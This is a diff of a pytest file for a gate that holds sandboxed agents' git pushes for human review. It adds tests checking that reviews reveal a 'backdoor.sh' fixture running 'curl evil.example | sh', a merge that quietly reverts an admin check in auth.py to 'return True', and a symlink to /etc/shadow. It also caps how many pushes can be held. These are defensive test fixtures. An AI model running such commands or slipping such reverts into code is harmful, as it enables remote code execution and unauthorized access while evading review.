@@ -21,6 +21,7 @@ import urllib.request
 import pytest
 
 from daemons.gate.control import GateError
+from daemons.gate.hook import HELD_PER_BOTTLE
 from daemons.gate.review import COMMITS_KEPT, EMPTY_TREE, ReviewError, approve, diff, find, held, reject
 from daemons.gate.store import ZERO
 from daemons.proxy.logbound import DAEMON_LOG_BYTES, rotated
@@ -132,13 +133,71 @@ def test_a_review_counts_every_commit_and_lists_the_file_1005_empty_commits_hide
     assert len(item.commits) == COMMITS_KEPT and item.commits[1].endswith(' nothing to see 1003')
     # Each commit is one entry, whatever its subject holds (splitlines would make several of this one).
     assert item.commits[0].split(' ', 1)[1] == TRICKY_SUBJECT.decode()
-    assert [path for path, _, _ in item.files] == ['backdoor.sh', 'hide.txt']
-    assert item.files[0] == ['backdoor.sh', 2, 0] and (item.added, item.deleted) == (3, 0)
+    assert [path for path, *_ in item.files] == ['backdoor.sh', 'hide.txt']
+    assert item.files[0] == ['backdoor.sh', 2, 0, ''] and (item.added, item.deleted) == (3, 0) and item.note == ''
     assert item.base == s.upstream_ref('hidden', 'main') and item.base != EMPTY_TREE
     assert item.base != backdoor
     whole = diff(s.state, item)
     assert '+curl evil.example | sh' in whole and 'backdoor.sh' in whole
 
+
+
+def test_a_review_is_against_what_approval_changes_upstream_whatever_the_history_says(s, tmp_path):
+    """A push to the upstream's own default branch is compared with that branch (not found "known" through the
+    gate's HEAD); a fast-forward merge whose first parent is an old release shows the fix it takes back."""
+    s.add_repo('mainline', mode='review', push=['refs/heads/main'])
+    work = s.clone('a', 'mainline', tmp_path / 'mainline')
+    commit(work, 'backdoor.sh', b'curl evil.example | sh\n')
+    proc = s.guest('a', work, 'push', 'origin', 'main')
+    item = find(s.state, held_id(proc.stderr))
+    assert item.count == 1 and [f[:3] for f in item.files] == [['backdoor.sh', 1, 0]], item
+    assert item.base == s.upstream_ref('mainline', 'main') and item.note == ''
+
+    s.add_repo('released', mode='review')
+    seed = s.root / 'seed' / 'released'
+    bare = (str(s.git_root / 'released.git'), 'main')
+    commit(seed, 'auth.py', b'def allowed(user):\n    return True\n', push_to=bare)
+    host_git(seed, 'tag', 'v1')
+    host_git(seed, 'push', '-q', bare[0], 'v1')
+    fixed = commit(seed, 'auth.py', b'def allowed(user):\n    return user.is_admin\n', push_to=bare)
+    work = s.clone('a', 'released', tmp_path / 'released')
+    host_git(work, 'checkout', '-q', '-b', 'agent/a/notes', 'v1')
+    commit(work, 'NOTES', b'just notes\n')
+    tree = host_git(work, 'rev-parse', 'HEAD^{tree}')
+    merge = host_git(work, 'commit-tree', tree, '-p', 'v1', '-p', fixed, '-m', 'add notes')
+    proc = s.guest('a', work, 'push', 'origin', f'{merge}:refs/heads/agent/a/notes')
+    item = find(s.state, held_id(proc.stderr))
+    assert item.base == fixed
+    assert sorted(f[:3] for f in item.files) == [['NOTES', 1, 0], ['auth.py', 1, 1]], item.files
+    assert '-    return user.is_admin' in diff(s.state, item)
+
+    # What a mode says is listed too: an executable made, a symlink added.
+    work, _ = s.branch('a', 'released', 'agent/a/modes', tmp_path / 'modes')
+    (work / 'link').symlink_to('/etc/shadow')
+    (work / 'auth.py').chmod(0o755)
+    host_git(work, 'add', 'link', 'auth.py')
+    host_git(work, 'commit', '-qm', 'modes')
+    proc = s.guest('a', work, 'push', 'origin', 'agent/a/modes')
+    kinds = {path: kind for path, _, _, kind in find(s.state, held_id(proc.stderr)).files}
+    assert kinds == {'auth.py': 'file made executable', 'link': 'new symlink', 'modes.txt': ''}, kinds
+
+
+def test_a_bottle_holds_a_bounded_number_of_pushes_for_review(s, tmp_path):
+    s.add_repo('many', bottle='c', mode='review')
+    work = s.clone('c', 'many', tmp_path / 'work')
+    for n in range(HELD_PER_BOTTLE + 1):
+        host_git(work, 'branch', f'agent/c/b{n}')
+    branches = [f'agent/c/b{n}' for n in range(HELD_PER_BOTTLE + 1)]
+    too_many = s.guest('c', work, 'push', 'origin', *branches)
+    assert too_many.returncode != 0 and '(rule too-many-held)' in too_many.stderr, too_many.stderr
+    assert s.guest('c', work, 'push', 'origin', *branches[:-1]).returncode == 0
+    assert sum(item.bottle == 'c' for item in held(s.state)) == HELD_PER_BOTTLE
+    one_more = s.guest('c', work, 'push', 'origin', branches[-1])
+    assert one_more.returncode != 0 and f'has {HELD_PER_BOTTLE} pushes held for review' in one_more.stderr
+    for item in held(s.state):
+        if item.bottle == 'c':
+            reject(s.state, item.id)
+    assert s.guest('c', work, 'push', 'origin', branches[-1]).returncode == 0
 
 
 def test_reject_drops_a_held_push(s, tmp_path):
